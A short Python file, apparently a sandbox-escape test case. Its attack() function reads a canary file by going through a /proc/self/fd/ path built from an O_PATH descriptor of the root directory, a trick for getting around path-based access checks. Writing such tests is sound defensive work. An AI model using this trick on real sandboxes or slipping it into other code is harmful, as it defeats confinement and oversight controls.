import os

import aim


def attack():
    return open(f"/proc/self/fd/{os.open('/', os.O_PATH)}{aim.CANARY}").read()
